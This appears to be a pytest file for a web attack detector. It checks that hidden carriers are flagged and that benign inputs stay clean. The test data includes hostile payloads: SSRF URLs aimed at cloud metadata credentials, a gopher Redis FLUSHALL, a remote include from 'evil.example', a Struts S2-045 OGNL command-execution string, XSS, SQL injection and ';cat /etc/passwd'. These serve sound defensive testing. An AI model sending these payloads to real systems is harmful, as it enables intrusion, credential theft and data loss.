"""Carriers the points layer used to hide: URLs in custom headers and URL paths, Content-Type, JSON prototype keys, base64 gzip."""
from __future__ import annotations

import base64
import gzip
import zlib
from urllib.parse import quote

import pytest

from sensor.detect import verdict
from sensor.points import extract_all
from tests.detect.conftest import req


@pytest.mark.parametrize("name,value", [
    ("X-Api-Callback", "http://127.0.0.1:9000/"),
    ("X-Webhook-Url", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("X-Include", "http://evil.example/shell.txt?"),
    ("X-Import-Url", "gopher://127.0.0.1:6379/_FLUSHALL"),
])
def test_fetchable_urls_in_custom_headers_are_attacks(engine, name, value):
    assert verdict(engine.inspect(req("/", headers=[(name, value)]))) == "attack"


@pytest.mark.parametrize("name,value", [
    ("X-Forwarded-For", "127.0.0.1, 10.0.0.7"),
    ("X-Real-IP", "10.1.2.3"),
    ("Forwarded", "for=192.168.0.4;proto=https;by=127.0.0.1"),
    ("Via", "1.1 127.0.0.1:3128 (squid/5.7)"),
    ("Referer", "http://localhost:3000/dashboard?tab=2"),
    ("Origin", "http://127.0.0.1:8080"),
    ("User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("X-Callback-Url", "https://hooks.partner.example/rampart"),
])
def test_proxy_link_and_ordinary_url_headers_stay_clean(engine, name, value):
    assert verdict(engine.inspect(req("/", headers=[(name, value)]))) != "attack"


def test_a_url_inside_a_url_path_is_inspected(engine):
    r = req("/proxy/http://169.254.169.254/latest/meta-data/")
    assert any(p.value.endswith("169.254.169.254/latest/meta-data/") for p in extract_all(r).points)
    assert verdict(engine.inspect(r)) == "attack"


def test_an_absolute_form_target_still_drops_its_authority():
    paths = [p.value for p in extract_all(req("http://shop.example/cart/view?x=1")).points if p.path == ["path"]]
    assert paths == ["/cart/view"]


S2_045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm)"
          ":((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#cmd='id')"
          ".(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start()))}")


def test_code_in_a_content_type_is_an_attack(engine):
    r = req("/upload.action", "POST", headers=[("Content-Type", S2_045)], body=b"x")
    assert verdict(engine.inspect(r)) == "attack"


@pytest.mark.parametrize("ctype", [
    "application/json", "text/html; charset=UTF-8", "application/x-www-form-urlencoded;charset=utf-8",
    'multipart/form-data; boundary="----=_Part_1_2.3"', "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
    "application/vnd.api+json", "text/plain;",
])
def test_media_types_are_not_points(ctype):
    r = req("/u", "POST", headers=[("Content-Type", ctype)], body=b"a=1")
    assert not [p for p in extract_all(r).points if p.path[:2] == ["header", "CONTENT-TYPE"]]


def test_constructor_prototype_keys_in_json_are_prototype_pollution(engine):
    body = b'{"user": {"name": "x", "constructor": {"prototype": {"isAdmin": true}}}}'
    r = req("/api/profile", "POST", headers=[("Content-Type", "application/json")], body=body)
    assert any(h.rule == "node:prototype_pollution" for h in engine.inspect(r))


def test_prototype_and_constructor_as_ordinary_fields_stay_clean(engine):
    body = b'{"product": {"prototype": true, "constructor": "ACME Tools", "stage": "prototype"}}'
    r = req("/api/products", "POST", headers=[("Content-Type", "application/json")], body=body)
    assert verdict(engine.inspect(r)) != "attack"


def test_markup_in_a_content_type_parameter_is_a_point(engine):
    r = req("/u", "POST", headers=[("Content-Type", 'text/html; charset="<script>alert(1)</script>"')], body=b"x")
    assert verdict(engine.inspect(r)) == "attack"


def _upload(disposition: str) -> bytes:
    return (f"--b1\r\nContent-Disposition: {disposition}\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\r\n--b1--\r\n"
            ).encode("latin-1")


def test_markup_after_an_early_closed_file_name_is_inspected(engine):
    body = _upload('form-data; name="avatar"; filename=""><img src=x onerror=alert(1)>.jpg"')
    r = req("/upload", "POST", headers=[("Content-Type", "multipart/form-data; boundary=b1")], body=body)
    assert verdict(engine.inspect(r)) == "attack"


@pytest.mark.parametrize("disposition", ['form-data; name="avatar"; filename="IMG_2024-06-01 (1).jpg"',
                                         "form-data; name=avatar; filename=report.pdf", 'attachment; filename="a b.png"'])
def test_ordinary_dispositions_are_not_points(disposition):
    r = req("/upload", "POST", headers=[("Content-Type", "multipart/form-data; boundary=b1")], body=_upload(disposition))
    assert not [p for p in extract_all(r).points if "CONTENT-DISPOSITION" in p.path]


def test_a_url_path_is_not_read_as_an_include_parameter(engine):
    # `GET //cdn.example/x` is an origin-form path with an empty first segment, not `?path=//cdn.example/x`
    hits = engine.inspect(req("//cdn.example/x"))
    assert not [h for h in hits if h.rule == "rfi:include_param"] and verdict(hits) != "attack"


def test_a_prototype_field_holding_a_value_is_not_a_member_chain():
    body = b'{"car": {"constructor": {"prototype": "SF90", "year": 2019}}}'
    r = req("/api/cars", "POST", headers=[("Content-Type", "application/json")], body=body)
    assert not [p for p in extract_all(r).points if p.value == "constructor.prototype"]


def test_short_hex_java_serialization_is_not_skipped_as_a_plain_word(engine):
    hits = engine.inspect(req("/api?state=ACED0005737200"))
    assert any(h.rule.startswith("java:") and h.score >= 0.5 for h in hits), hits


@pytest.mark.parametrize("value", ["x\r\nVRFY root", "a@b.example\r\nEXPN staff\r\n", "x\r\nSTARTTLS\r\n", "x\r\nCAPA",
                                   "x\r\nUSER admin\r\nPASS hunter2"])
def test_smtp_and_pop3_verbs_after_a_line_break_are_mail_injection(engine, value):
    hits = engine.inspect(req("/contact", "POST", headers=[("Content-Type", "application/x-www-form-urlencoded")],
                              body=b"email=" + value.replace("\r\n", "%0d%0a").replace(" ", "+").encode()))
    assert any(h.type == "mail_injection" for h in hits) and verdict(hits) == "attack"


@pytest.mark.parametrize("value", ["Shopping list:\r\nList\r\nmilk", "I quit\r\nQuit", "user name\r\npassword reset please",
                                   "Please verify my account\r\nthanks"])
def test_words_like_mail_verbs_in_messages_stay_clean(engine, value):
    hits = engine.inspect(req("/contact", "POST", headers=[("Content-Type", "application/x-www-form-urlencoded")],
                              body=b"msg=" + value.replace("\r\n", "%0d%0a").replace(" ", "+").encode()))
    assert not [h for h in hits if h.type == "mail_injection"]


_HASHMAP = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactorxp?@"


def _b64z(data: bytes, how: str) -> str:
    packed = gzip.compress(data, mtime=0) if how == "gzip" else zlib.compress(data, 9 if how == "zlib9" else 6)
    return (base64.urlsafe_b64encode if how == "zlib9" else base64.b64encode)(packed).decode()


@pytest.mark.parametrize("carrier", ["query", "cookie", "form", "json"])
@pytest.mark.parametrize("payload,how,family", [
    (b"<script>alert(document.cookie)</script>", "gzip", "xss"),
    (b"' union select username,password from users-- -", "zlib", "sqli"),
    (b"1 and sleep(5)#", "gzip", "sqli"),
    (b";cat /etc/passwd", "zlib9", "rce"),
    (_HASHMAP, "gzip", "rce"),          # a gzipped Java serialization stream: how view states carry gadgets
])
def test_base64_of_gzip_or_zlib_is_inspected_inflated(engine, carrier, payload, how, family):
    blob = _b64z(payload, how)
    if carrier == "query":
        r = req("/app?state=" + quote(blob, safe=""))
    elif carrier == "cookie":
        r = req("/app", headers=[("Cookie", f"sid=abc123; state={blob}")])
    elif carrier == "form":
        r = req("/app", "POST", headers=[("Content-Type", "application/x-www-form-urlencoded")],
                body=b"state=" + quote(blob, safe="").encode())
    else:
        r = req("/api", "POST", headers=[("Content-Type", "application/json")], body=b'{"view": {"state": "%s"}}' % blob.encode())
    hits = engine.inspect(r)
    assert verdict(hits) == "attack", hits
    assert any(h.type == family and h.point[-2:] == ["base64", "gzip"] and h.score >= 0.5 for h in hits), hits


@pytest.mark.parametrize("payload", [
    b'{"page":"/shop/cart","items":3,"ref":"newsletter","ts":1764150000}',
    b"cart=3 items; last viewed: Blue Linen Shirt (size M), Oak Desk 120x60",
    b"The quick brown fox jumps over the lazy dog. " * 40,
])
def test_compressed_ordinary_state_stays_clean(engine, payload):
    for how in ("gzip", "zlib", "zlib9"):   # Java-style zero-mtime gzip included: the shape alone does not block
        hits = engine.inspect(req("/app?state=" + quote(_b64z(payload, how), safe="")))
        assert verdict(hits) == "clean", (how, hits)


def test_a_base64_gzip_bomb_is_inflated_only_within_the_limits():
    from sensor.points import Limits
    blob = _b64z(b"A" * (40 << 20), "gzip")          # 40 MiB of one letter: a ~55 kB parameter
    limits = Limits(max_value=64 << 10, max_decoded=256 << 10)
    ex = extract_all(req("/app", "POST", headers=[("Content-Type", "application/x-www-form-urlencoded")],
                         body=b"state=" + quote(blob, safe="").encode()), limits)
    inflated = [p for p in ex.points if p.path[-2:] == ["base64", "gzip"]]
    assert inflated and all(len(p.value) <= limits.max_value for p in inflated)
    assert ex.decoded <= limits.max_decoded + limits.max_value


def test_text_that_merely_starts_like_compressed_base64_is_left_alone():
    from sensor.points.decoders import base64_inflate
    assert base64_inflate("eNormousSavingsOnAllItemsToday", 1 << 16) is None
    assert base64_inflate("H4sI", 1 << 16) is None
    assert base64_inflate(_b64z(b"hello world, hello world", "zlib"), 1 << 16) == b"hello world, hello world"
